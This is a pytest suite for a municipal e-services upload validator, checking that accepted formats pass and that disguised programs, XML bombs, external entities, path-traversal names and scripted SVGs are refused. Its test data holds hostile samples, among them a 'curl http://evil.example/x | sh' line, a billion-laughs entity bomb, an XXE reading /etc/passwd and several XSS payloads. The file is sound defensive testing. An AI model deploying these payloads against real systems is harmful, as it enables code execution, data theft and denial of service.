"""Uploads checked by content (E5): real sample files are accepted with their MIME type,
renamed programs, scripts in SVGs, XML bombs and wrong sizes are refused by name."""

import gzip
import io
import tarfile
import uuid
import wave
import zipfile

import openpyxl
import pytest
from fpdf import FPDF
from PIL import Image
from zope.i18nmessageid import Message

from ratusz.eservices.uploads import ACCEPTED_EXTENSIONS
from ratusz.eservices.uploads import DEFAULT_MAX_FILE_MB
from ratusz.eservices.uploads import DEFAULT_MAX_TOTAL_MB
from ratusz.eservices.uploads import MB
from ratusz.eservices.uploads import UploadRefused
from ratusz.eservices.uploads import base_name
from ratusz.eservices.uploads import check_upload
from ratusz.eservices.uploads import check_uploads
from ratusz.validators import InputError

LIMIT = DEFAULT_MAX_FILE_MB * MB
OOXML = "application/vnd.openxmlformats-officedocument."
ODF = "application/vnd.oasis.opendocument."
SVG = "http://www.w3.org/2000/svg"

PROGRAM = "The file ${name} is a program; programs are not accepted."
MISMATCH = "The content of the file ${name} does not match its extension .${extension}."
NOT_TEXT = "The file ${name} is not plain text; save it as text in UTF-8."
ENTITIES = "The file ${name} declares XML entities, which are not accepted."
NOT_XML = "The file ${name} is not well-formed XML."
ACTIVE_SVG = "The image ${name} contains scripts or other active content, which are not accepted."
PROGRAM_INSIDE = "The archive ${name} contains a program (${member}); programs are not accepted."


def refusal(filename, data, max_bytes=LIMIT):
    """The UploadRefused that checking the file raises."""
    with pytest.raises(UploadRefused) as raised:
        check_upload(filename, data, max_bytes)
    return raised.value


# --- sample files ---------------------------------------------------------------------------


def pdf():
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Wniosek o wydanie zaswiadczenia")
    return bytes(document.output())


def image(format_, mode="RGB"):
    buffer = io.BytesIO()
    Image.new(mode, (8, 8), "white").save(buffer, format_)
    return buffer.getvalue()


def zipped(members):
    """A ZIP of ``members`` (``{name: bytes or str}``) in their order; ``mimetype``
    stored uncompressed, as ODF and ASiC require."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            stored = zipfile.ZIP_STORED if name == "mimetype" else None
            archive.writestr(name, content, compress_type=stored)
    return buffer.getvalue()


def content_types(main_type):
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        "</Types>"
    )


RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org'
    '/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
WORD_BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Wniosek</w:t></w:r></w:p></w:body></w:document>"
)


def docx(main_type=OOXML + "wordprocessingml.document.main+xml"):
    return zipped(
        {
            "[Content_Types].xml": content_types(main_type),
            "_rels/.rels": RELS,
            "word/document.xml": WORD_BODY,
        }
    )


def pptx():
    """A presentation with its members in another order than Office writes them:
    the check reads the ZIP's directory, not the first bytes."""
    return zipped(
        {
            "_rels/.rels": RELS,
            "ppt/presentation.xml": "<p:presentation xmlns:p='urn:x'/>",
            "[Content_Types].xml": content_types(OOXML + "presentationml.presentation.main+xml"),
        }
    )


def xps():
    return zipped(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Default Extension="fdseq" ContentType="application/'
            'vnd.ms-package.xps-fixeddocumentsequence+xml"/></Types>',
            "_rels/.rels": RELS,
            "FixedDocSeq.fdseq": "<FixedDocumentSequence/>",
        }
    )


def xlsx():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Zażółć gęślą jaźń"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odf(kind):
    return zipped(
        {
            "mimetype": ODF + kind,
            "content.xml": '<office:document-content xmlns:office="urn:oasis:names:tc:'
            'opendocument:xmlns:office:1.0" office:version="1.3"/>',
            "META-INF/manifest.xml": "<manifest/>",
        }
    )


def ole(*streams, root_class=None):
    """An OLE compound file (512-byte sectors) whose directory, in sector 0, holds
    the root entry and ``streams``."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[0x1A:0x1C] = (3).to_bytes(2, "little")  # major version 3: 512-byte sectors
    header[0x1C:0x1E] = b"\xfe\xff"
    header[0x1E:0x20] = (9).to_bytes(2, "little")
    header[0x30:0x34] = (0).to_bytes(4, "little")  # the directory starts in sector 0
    directory = bytearray(512)
    for index, name in enumerate(("Root Entry", *streams)):
        encoded = (name + "\0").encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        entry[0x40:0x42] = len(encoded).to_bytes(2, "little")
        entry[0x42] = 5 if index == 0 else 2
        if index == 0 and root_class:
            entry[0x50:0x60] = root_class.bytes_le
        directory[index * 128 : (index + 1) * 128] = entry
    return bytes(header + directory)


def windows_program():
    """A PE executable's start: DOS header pointing at the "PE" header at 0x40."""
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos += bytes(64 - len(dos))
    dos[0x3C:0x40] = (0x40).to_bytes(4, "little")
    return bytes(dos) + b"PE\x00\x00\x4c\x01\x03\x00" + bytes(240)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def wav():
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(1600))
    return buffer.getvalue()


def tar(members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def cms(length_form=b"\x82\x01\x00"):
    """The start of a DER CMS SignedData: SEQUENCE, contentType signedData, [0]."""
    return (
        b"\x30" + length_form + b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x82" + bytes(64)
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""


# --- accepted ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename, make, mime",
    [
        ("wniosek.pdf", pdf, "application/pdf"),
        ("Skan.PDF", pdf, "application/pdf"),
        ("zdjecie.png", lambda: image("PNG"), "image/png"),
        ("zdjecie.jpg", lambda: image("JPEG"), "image/jpeg"),
        ("zdjecie.jpeg", lambda: image("JPEG"), "image/jpeg"),
        ("mapa.tif", lambda: image("TIFF"), "image/tiff"),
        ("mapa.geotiff", lambda: image("TIFF"), "image/tiff"),
        ("mapa.jp2", lambda: image("JPEG2000"), "image/jp2"),
        ("wniosek.docx", docx, OOXML + "wordprocessingml.document"),
        ("zestawienie.xlsx", xlsx, OOXML + "spreadsheetml.sheet"),
        ("wniosek.odt", lambda: odf("text"), ODF + "text"),
        ("zestawienie.ods", lambda: odf("spreadsheet"), ODF + "spreadsheet"),
        ("prezentacja.odp", lambda: odf("presentation"), ODF + "presentation"),
        ("stary.doc", lambda: ole("WordDocument", "1Table"), "application/msword"),
        ("stary.doc", lambda: b"{\\rtf1\\ansi Wniosek}", "application/rtf"),
        ("stary.xls", lambda: ole("Workbook"), "application/vnd.ms-excel"),
        ("stary.ppt", lambda: ole("PowerPoint Document"), "application/vnd.ms-powerpoint"),
        ("slajdy.pptx", pptx, OOXML + "presentationml.presentation"),
        ("wydruk.xps", xps, "application/vnd.ms-xpsdocument"),
        ("mapa.tiff", lambda: b"II+\x00\x08\x00\x00\x00" + bytes(32), "image/tiff"),  # BigTIFF
        ("pismo.rtf", lambda: b"{\\rtf1\\ansi\\deff0 Wniosek}", "application/rtf"),
        ("nagranie.wav", wav, "audio/wav"),
        ("nagranie.mp3", lambda: b"\xff\xfb\x90\x64" + bytes(413), "audio/mpeg"),
        ("nagranie.mp3", lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(32), "audio/mpeg"),
        ("film.mp4", lambda: b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom", "video/mp4"),
        ("nagranie.m4a", lambda: b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00", "audio/mp4"),
        ("nagranie.ogg", lambda: b"OggS\x00\x02" + bytes(40), "audio/ogg"),
        ("film.mpg", lambda: b"\x00\x00\x01\xba\x44" + bytes(40), "video/mpeg"),
        ("film.mpeg", lambda: (b"\x47" + bytes(187)) * 3, "video/mpeg"),
        ("film.avi", lambda: b"RIFF\x00\x10\x00\x00AVI LIST" + bytes(40), "video/x-msvideo"),
        ("skany.zip", lambda: zipped({"skan.pdf": pdf()}), "application/zip"),
        ("skany.tar", lambda: tar({"skan.pdf": pdf()}), "application/x-tar"),
        ("skan.pdf.gz", lambda: gzip.compress(pdf()), "application/gzip"),
        (
            "skany.7z",
            lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24),
            "application/x-7z-compressed",
        ),
        ("strona.html", lambda: b"<!DOCTYPE html><p>Wniosek</p>", "text/html"),
        ("styl.css", lambda: b"body { color: #222; }", "text/css"),
        ("dane.xml", lambda: b'<?xml version="1.0"?><wniosek/>', "application/xml"),
        (
            "plan.gml",
            lambda: b"<gml:FeatureCollection xmlns:gml='http://www.opengis.net/gml'/>",
            "application/gml+xml",
        ),
        (
            "strona.xhtml",
            lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
            "application/xhtml+xml",
        ),
        (
            "ikona.svg",
            lambda: f'<svg xmlns="{SVG}"><circle r="4"/></svg>'.encode(),
            "image/svg+xml",
        ),
        ("wniosek.pdf.p7s", cms, "application/pkcs7-signature"),
        ("wniosek.pdf.p7m", lambda: cms(b"\x80"), "application/pkcs7-mime"),
        ("wniosek.pdf.sig", cms, "application/pkcs7-signature"),
        (
            "wniosek.pdf.xades",
            lambda: b"<ds:Signature xmlns:ds='http://www.w3.org/2000/09/xmldsig#'/>",
            "application/xml",
        ),
        (
            "wniosek.asice",
            lambda: zipped(
                {
                    "mimetype": "application/vnd.etsi.asic-e+zip",
                    "wniosek.pdf": pdf(),
                    "META-INF/signatures0.xml": "<x/>",
                }
            ),
            "application/vnd.etsi.asic-e+zip",
        ),
        (
            "wniosek.asics",
            lambda: zipped({"wniosek.pdf": pdf(), "META-INF/signature.p7s": cms()}),
            "application/vnd.etsi.asic-s+zip",
        ),
        (
            "wniosek.pdf.sig",
            lambda: (
                b"<?xml version='1.0'?><ds:Signature xmlns:ds='http://www.w3"
                b".org/2000/09/xmldsig#'/>"
            ),
            "application/xml",
        ),
        (
            "wniosek.pdf.sig",
            lambda: b"-----BEGIN PGP SIGNATURE-----\n\niQEz\n-----END PGP SIGNATURE-----\n",
            "application/pgp-signature",
        ),
        (
            "schemat.xsd",
            lambda: b"<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema'/>",
            "application/xml",
        ),
        (
            "schemat.rng",
            lambda: b"<grammar xmlns='http://relaxng.org/ns/structure/1.0'/>",
            "application/xml",
        ),
        (
            "widok.xsl",
            lambda: (
                b"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'/>"
            ),
            "application/xml",
        ),
        (
            "widok.xslt",
            lambda: (
                b"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'/>"
            ),
            "application/xslt+xml",
        ),
        ("rysunek.dwg", lambda: b"AC1032" + bytes(64), "image/vnd.dwg"),
        ("rysunek.dwf", lambda: b"(DWF V06.00)PK" + bytes(64), "model/vnd.dwf"),
        (
            "rysunek.dxf",
            lambda: b"999\nLibreCAD\n  0\nSECTION\n  2\nHEADER\n  0\nENDSEC\n",
            "image/vnd.dxf",
        ),
        ("rysunek.dgn", lambda: b"\x08\x09\xfe\x02" + bytes(64), "image/vnd.dgn"),
        ("rysunek.dgn", lambda: ole("Dgn~H"), "image/vnd.dgn"),
    ],
)
def test_real_files_are_accepted_with_their_mime_type(filename, make, mime):
    assert check_upload(filename, make(), LIMIT) == mime


@pytest.mark.parametrize(
    "filename, data, mime",
    [
        ("uwagi.txt", "Zażółć gęślą jaźń\r\n".encode(), "text/plain"),
        ("uwagi.txt", "\ufeffZażółć gęślą jaźń".encode(), "text/plain"),
        ("uwagi.txt", "Zażółć gęślą jaźń".encode("cp1250"), "text/plain"),
        ("uwagi.txt", "Zażółć gęślą jaźń".encode("utf-16"), "text/plain"),
        ("lista.csv", "lp;nazwisko\n1;Łukasiewicz\n".encode(), "text/csv"),
        ("lista.csv", "lp;nazwisko\n1;Łukasiewicz\n".encode("cp1250"), "text/csv"),
    ],
)
def test_text_in_utf8_utf16_or_windows_1250_is_accepted(filename, data, mime):
    assert check_upload(filename, data, LIMIT) == mime


def test_xml_in_the_encoding_its_declaration_names_is_accepted():
    data = '<?xml version="1.0" encoding="windows-1250"?><plan>Łódź</plan>'.encode("cp1250")
    assert check_upload("plan.gml", data, LIMIT) == "application/gml+xml"


def test_xhtml_may_use_the_html_entities_of_its_dtd():
    data = (
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><p>Urz&#261;d&nbsp;Miasta</p></html>'
    )
    assert check_upload("strona.xhtml", data, LIMIT) == "application/xhtml+xml"
    assert refusal("dane.xml", data).message == NOT_XML


def test_a_base64_signature_is_accepted():
    data = b"-----BEGIN PKCS7-----\nMIAGCSqGSIb3DQEHAqCA\n-----END PKCS7-----\n"
    assert check_upload("wniosek.pdf.p7s", data, LIMIT) == "application/pkcs7-signature"


# --- names and sizes ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename", ["../../etc/passwd.pdf", "C:\\fakepath\\passwd.pdf", "/home/jan/passwd.pdf"]
)
def test_only_the_base_name_counts(filename):
    assert base_name(filename) == "passwd.pdf"
    assert check_upload(filename, pdf(), LIMIT) == "application/pdf"
    refused = refusal(filename, b"")
    assert refused.message.mapping["name"] == "passwd.pdf"


@pytest.mark.parametrize("filename", ["", None, "../", "C:\\fakepath\\"])
def test_a_file_without_a_name_is_refused(filename):
    refused = refusal(filename, pdf())
    assert refused.message == "A file without a name was sent; choose the file again."


def test_an_empty_file_is_refused():
    refused = refusal("wniosek.pdf", b"")
    assert refused.message == "The file ${name} is empty."
    assert refused.message.mapping == {"name": "wniosek.pdf"}


def test_an_oversize_file_is_refused_with_the_limit_in_megabytes():
    refused = refusal("skan.pdf", pdf() + bytes(2 * MB), max_bytes=2 * MB)
    assert refused.message == "The file ${name} is larger than ${limit} MB."
    assert refused.message.mapping == {"name": "skan.pdf", "limit": "2"}


def test_the_limit_may_be_a_fraction_of_a_megabyte():
    refused = refusal("skan.pdf", pdf() + bytes(MB), max_bytes=MB // 2)
    assert refused.message.mapping["limit"] == "0.5"


def test_a_file_without_an_extension_is_refused_listing_the_formats():
    refused = refusal("wniosek", pdf())
    assert "has no extension" in refused.message
    assert refused.message.mapping["name"] == "wniosek"
    assert "pdf" in refused.message.mapping["formats"]
    assert refusal(".pdf", pdf()).message == refused.message


@pytest.mark.parametrize(
    "filename, extension",
    [
        ("setup.exe", "exe"),
        ("scan.pdf.exe", "exe"),
        ("zdjecie.gif", "gif"),
        ("skrypt.sh", "sh"),
        ("makro.docm", "docm"),
    ],
)
def test_a_format_not_accepted_is_refused_by_its_last_extension(filename, extension):
    refused = refusal(filename, pdf())
    assert "is not accepted" in refused.message
    assert refused.message.mapping["name"] == filename
    assert refused.message.mapping["extension"] == extension
    assert "docx" in refused.message.mapping["formats"]


def test_a_long_name_is_shortened_in_the_message():
    name = "a" * 300 + ".exe"
    shown = refusal(name, b"x").message.mapping["name"]
    assert len(shown) == 80
    assert shown.endswith("…")


# --- programs ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename, data",
    [
        ("wniosek.pdf", windows_program()),
        ("zdjecie.jpg", ELF),
        ("uwagi.txt", SHELL_SCRIPT),
        ("plan.xml", b"#!/usr/bin/env python\nprint(1)\n"),
        ("dokument.doc", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(32)),  # Mach-O
        ("klasa.csv", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(32)),  # Java class
        ("skrot.txt", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(64)),  # Windows shortcut
        # A Windows Installer package is an OLE file, like a .doc.
        (
            "stary.doc",
            ole("Property", root_class=uuid.UUID("000c1084-0000-0000-c000-000000000046")),
        ),
    ],
)
def test_a_renamed_program_is_refused(filename, data):
    refused = refusal(filename, data)
    assert refused.message == PROGRAM
    assert refused.message.mapping == {"name": filename}


def test_a_text_that_starts_with_mz_is_no_program():
    assert check_upload("uwagi.txt", b"MZK Warszawa, linia 4", LIMIT) == "text/plain"


@pytest.mark.parametrize(
    "filename, data, member",
    [
        ("skany.zip", zipped({"skan.pdf": pdf(), "faktura.pdf.exe": b"x"}), "faktura.pdf.exe"),
        ("skany.zip", zipped({"dir/skan.pdf": windows_program()}), "skan.pdf"),
        ("skany.zip", zipped({"start.js": b"WScript.Shell"}), "start.js"),
        ("skany.tar", tar({"skan.pdf": pdf(), "run.sh": SHELL_SCRIPT}), "run.sh"),
        ("skany.tar", tar({"skan.jpg": ELF}), "skan.jpg"),
        ("skan.pdf.gz", gzip.compress(ELF), "skan.pdf"),
        (
            "wniosek.asice",
            zipped(
                {
                    "mimetype": "application/vnd.etsi.asic-e+zip",
                    "setup.exe": windows_program(),
                    "META-INF/signatures0.xml": "<x/>",
                }
            ),
            "setup.exe",
        ),
    ],
)
def test_an_archive_holding_a_program_is_refused(filename, data, member):
    refused = refusal(filename, data)
    assert refused.message == PROGRAM_INSIDE
    assert refused.message.mapping == {"name": filename, "member": member}


@pytest.mark.parametrize(
    "filename, make",
    [
        ("skany.zip", lambda: zipped({f"{number}.txt": b"" for number in range(5001)})),
        ("wniosek.docx", lambda: zipped({f"{number}.xml": b"" for number in range(5001)})),
        ("skany.tar", lambda: tar({f"{number}.txt": b"" for number in range(5001)})),
    ],
)
def test_an_archive_with_too_many_files_is_refused(filename, make):
    refused = refusal(filename, make())
    assert refused.message == "The archive ${name} holds more than ${limit} files."
    assert refused.message.mapping == {"name": filename, "limit": "5000"}


# --- content not matching the extension -------------------------------------------------------


@pytest.mark.parametrize(
    "filename, data",
    [
        ("zdjecie.png", b"<html><script>alert(document.cookie)</script></html>"),
        ("zdjecie.jpg", image("PNG")),
        ("skan.pdf", image("JPEG")),
        ("mapa.tiff", pdf()),
        ("mapa.jp2", image("PNG")),
        # A ZIP renamed .docx: no [Content_Types].xml.
        ("wniosek.docx", zipped({"word/document.xml": WORD_BODY})),
        # A macro-enabled document renamed .docx: Word itself refuses to open it.
        ("wniosek.docx", docx("application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("wniosek.xlsx", docx()),
        ("wniosek.pptx", xlsx()),
        ("wniosek.odt", odf("spreadsheet")),
        ("wniosek.odt", zipped({"content.xml": "<x/>"})),
        ("wniosek.doc", docx()),
        ("stary.xls", pdf()),
        # zipfile reads a ZIP from its end: a page with a ZIP appended must not pass.
        ("skany.zip", b"<html>" + zipped({"skan.pdf": pdf()})),
        ("skany.zip", b"PK\x03\x04 not really a zip"),
        ("skany.tar", pdf()),
        ("skany.gz", b"\x1f\x8b\x08\x00 broken"),
        ("skany.7z", zipped({"a.txt": "a"})),
        ("nagranie.mp3", wav()),
        ("nagranie.mp3", b"\xff\xf1\x50\x80" + bytes(32)),  # AAC (ADTS), not layer III
        ("nagranie.wav", b"RIFF\x00\x10\x00\x00AVI LIST"),
        ("film.mp4", b"\x1aE\xdf\xa3" + bytes(32)),  # Matroska
        ("film.mpg", pdf()),
        ("film.ogv", image("PNG")),
        ("rysunek.dwg", pdf()),
        ("rysunek.dgn", pdf()),
        ("rysunek.dwf", pdf()),
        ("rysunek.dxf", b"Rysunek, ale nie DXF\n"),
        ("wniosek.p7s", b"0\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03"),
        ("wniosek.p7m", pdf()),
        ("wniosek.sig", image("PNG")),
        ("wniosek.asice", zipped({"wniosek.pdf": pdf()})),
        ("wniosek.asics", zipped({"mimetype": "application/zip", "META-INF/x.p7s": "x"})),
        ("ikona.svg", b"<html xmlns='http://www.w3.org/1999/xhtml'/>"),
    ],
)
def test_content_not_matching_the_extension_is_refused(filename, data):
    refused = refusal(filename, data)
    assert refused.message == MISMATCH
    assert refused.message.mapping == {"name": filename, "extension": filename.rsplit(".")[-1]}


def test_a_password_protected_office_file_is_refused_with_its_own_message():
    refused = refusal("wniosek.docx", ole("EncryptedInfo", "EncryptedPackage"))
    assert refused.message == "The file ${name} is protected with a password; send it without one."
    assert refused.message.mapping == {"name": "wniosek.docx"}


@pytest.mark.parametrize(
    "filename, data",
    [
        ("uwagi.txt", b"Wniosek\x00\x00\x00"),
        ("lista.csv", image("PNG")[8:]),
        ("strona.html", b"<p>\x01\x02</p>"),
        ("styl.css", "body { content: 'ł' }".encode("cp1250")),  # CSS: no Windows-1250
        ("uwagi.txt", b"\x81\x83\x88"),  # undefined in Windows-1250 too
    ],
)
def test_binary_or_undecodable_text_is_refused(filename, data):
    refused = refusal(filename, data)
    assert refused.message == NOT_TEXT
    assert refused.message.mapping == {"name": filename}


# --- XML and SVG ------------------------------------------------------------------------------


@pytest.mark.parametrize("filename", ["bomba.xml", "bomba.svg", "bomba.gml", "bomba.sig"])
def test_an_xml_bomb_is_refused(filename):
    refused = refusal(filename, BILLION_LAUGHS)
    assert refused.message == ENTITIES
    assert refused.message.mapping == {"name": filename}


def test_an_external_entity_is_refused():
    data = b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    assert refusal("dane.xml", data).message == ENTITIES


@pytest.mark.parametrize(
    "filename, data",
    [
        ("dane.xml", b"<wniosek><imie>Jan</wniosek>"),
        ("dane.xsd", b"Nie XML"),
        ("dane.xml", b'<?xml version="1.0" encoding="nieznane"?><a/>'),
        ("strona.xhtml", b"<html><br></html>"),
    ],
)
def test_malformed_xml_is_refused(filename, data):
    refused = refusal(filename, data)
    assert refused.message == NOT_XML
    assert refused.message.mapping == {"name": filename}


@pytest.mark.parametrize(
    "svg",
    [
        f'<svg xmlns="{SVG}"><script>alert(1)</script></svg>',
        f'<svg xmlns="{SVG}" onload="alert(1)"/>',
        f'<svg xmlns="{SVG}"><rect ONCLICK="alert(1)"/></svg>',
        f'<svg xmlns="{SVG}" xmlns:x="http://www.w3.org/1999/xlink">'
        '<a x:href="javascript:alert(1)"><text>x</text></a></svg>',
        f'<svg xmlns="{SVG}"><a href=" java&#x09;script:alert(1)">x</a></svg>',
        f'<svg xmlns="{SVG}"><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
        f'<svg xmlns="{SVG}"><set attributeName="onmouseover" to="alert(1)"/></svg>',
        f'<svg xmlns="{SVG}"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="https://evil.example"/></foreignObject></svg>',
        f'<svg xmlns="{SVG}"><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)'
        "</h:script></svg>",
        f'<?xml-stylesheet type="text/xsl" href="#x"?><svg xmlns="{SVG}"/>',
    ],
)
def test_an_svg_with_active_content_is_refused(svg):
    refused = refusal("ikona.svg", svg.encode())
    assert refused.message == ACTIVE_SVG
    assert refused.message.mapping == {"name": "ikona.svg"}


def test_an_svg_with_plain_links_and_styles_is_accepted():
    svg = (
        f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 8 8">'
        "<style>circle { fill: #8b1a1a; }</style>"
        '<a xlink:href="https://bip.miasto.pl/"><circle r="4"/></a></svg>'
    )
    assert check_upload("herb.svg", svg.encode(), LIMIT) == "image/svg+xml"


# --- the refusal and several files ------------------------------------------------------------


def test_the_refusal_is_a_translatable_input_error_with_field_and_filename():
    with pytest.raises(UploadRefused) as raised:
        check_upload("C:\\fakepath\\setup.pdf", windows_program(), LIMIT, field="zalacznik")
    refused = raised.value
    assert isinstance(refused, InputError)
    assert isinstance(refused.message, Message)
    assert refused.message.domain == "ratusz"
    assert refused.field == "zalacznik"
    assert refused.filename == "C:\\fakepath\\setup.pdf"
    assert refused.message.mapping["name"] == "setup.pdf"


def test_check_uploads_returns_the_types_in_order():
    files = [("a.pdf", pdf()), ("b.png", image("PNG")), ("c.csv", b"1;2\n")]
    assert check_uploads(files, LIMIT, DEFAULT_MAX_TOTAL_MB * MB) == [
        "application/pdf",
        "image/png",
        "text/csv",
    ]
    assert check_uploads([], LIMIT, LIMIT) == []


def test_check_uploads_refuses_the_file_that_brings_the_total_over_the_limit():
    big = pdf() + bytes(600 * 1024)
    files = [("a.pdf", big), ("b.pdf", big), ("c.pdf", big)]
    with pytest.raises(UploadRefused) as raised:
        check_uploads(files, MB, MB, field="zalaczniki")
    refused = raised.value
    assert refused.message == (
        "With the file ${name} the attachments are larger than ${limit} MB together."
    )
    assert refused.message.mapping == {"name": "b.pdf", "limit": "1"}
    assert (refused.filename, refused.field) == ("b.pdf", "zalaczniki")


def test_check_uploads_refuses_the_first_bad_file():
    files = [("a.pdf", pdf()), ("b.jpg", ELF), ("c.exe", b"MZ")]
    with pytest.raises(UploadRefused) as raised:
        check_uploads(files, LIMIT, LIMIT)
    assert raised.value.message == PROGRAM
    assert raised.value.filename == "b.jpg"


def test_the_accepted_extensions_are_those_of_e5():
    e5 = {
        *("txt", "rtf", "pdf", "xps", "odt", "ods", "odp", "doc", "xls", "ppt", "docx", "xlsx"),
        *("pptx", "csv", "jpg", "jpeg", "tif", "tiff", "geotiff", "png", "svg", "jp2", "wav"),
        *("mp3", "avi", "mpg", "mpeg", "mp4", "m4a", "ogg", "ogv", "zip", "tar", "gz", "7z"),
        *("html", "xhtml", "css", "xml", "xsd", "gml", "rng", "xsl", "xslt", "dwg", "dwf"),
        *("dxf", "dgn"),
    }
    signatures = {"sig", "p7s", "p7m", "asice", "asics", "xades"}
    assert e5 | signatures == ACCEPTED_EXTENSIONS
    assert all(extension == extension.lower() for extension in ACCEPTED_EXTENSIONS)
